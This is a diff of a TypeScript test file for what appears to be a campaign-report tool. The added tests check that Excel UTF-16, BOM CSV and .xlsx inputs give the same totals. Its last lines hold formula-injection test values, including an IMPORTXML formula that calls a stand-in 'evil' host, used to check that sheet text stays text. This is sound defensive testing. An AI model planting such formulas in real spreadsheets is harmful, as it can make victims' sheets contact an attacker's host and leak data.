@@ -125,6 +125,56 @@ describe.each(['en', 'ar', 'fa'])('the %s example', (lang) => {
   });
 });
 
+describe('the same report whatever the file format', () => {
+  const csvText = readFileSync(join(ROOT, 'examples/campaigns-en.csv'), 'utf8');
+  const totalsOf = async (input: string, extra: string[] = []) => {
+    const json = join(dir, `${Math.random().toString(36).slice(2)}.json`);
+    const run = await report([input, '--json', json, ...extra]);
+    expect(run.err).toBe('');
+    expect(run.status).toBe(0);
+    return (JSON.parse(readFileSync(json, 'utf8')) as ReportJson).totals.measures;
+  };
+
+  it('Excel "Unicode text" (UTF-16 LE, tab-separated) and "CSV UTF-8" (BOM, semicolons)', async () => {
+    const want = expected('en').totals as Record<string, number>;
+    const rows = csvText.trimEnd().split('\n');
+    const utf16 = join(dir, 'unicode.txt');
+    writeFileSync(
+      utf16,
+      Buffer.concat([
+        Buffer.from([0xff, 0xfe]),
+        Buffer.from(rows.map((r) => r.replace(/,/g, '\t')).join('\r\n'), 'utf16le'),
+      ]),
+    );
+    const bom = join(dir, 'bom.csv');
+    writeFileSync(bom, `\uFEFF${rows.map((r) => r.replace(/,/g, ';')).join('\r\n')}\r\n`);
+    for (const path of [utf16, bom]) {
+      const measures = await totalsOf(path);
+      for (const [id, value] of Object.entries(want))
+        expect(sameNumber(measures[id as 'cost'] as number, value), id).toBe(true);
+    }
+  });
+
+  it('an .xlsx workbook, by --sheet', async () => {
+    const want = expected('en').totals as Record<string, number>;
+    const book = new ExcelJS.Workbook();
+    book.addWorksheet('Cover').getCell('A1').value = 'Quarterly export';
+    const sheet = book.addWorksheet('Ads data');
+    for (const line of csvText.trimEnd().split('\n')) {
+      sheet.addRow(
+        line
+          .split(',')
+          .map((cell, i) => (i >= 3 && cell !== '' && !Number.isNaN(Number(cell)) ? Number(cell) : cell)),
+      );
+    }
+    const path = join(dir, 'workbook.xlsx');
+    await book.xlsx.writeFile(path);
+    const measures = await totalsOf(path, ['--sheet', 'Ads data']);
+    for (const [id, value] of Object.entries(want))
+      expect(sameNumber(measures[id as 'cost'] as number, value), id).toBe(true);
+  });
+});
+
 describe('text from the sheet stays text', () => {
   it('campaign names that look like formulas', async () => {
     const names = ['=IMPORTXML("http://evil","//a")', '+1', '-cmd', '@SUM(A1)'];
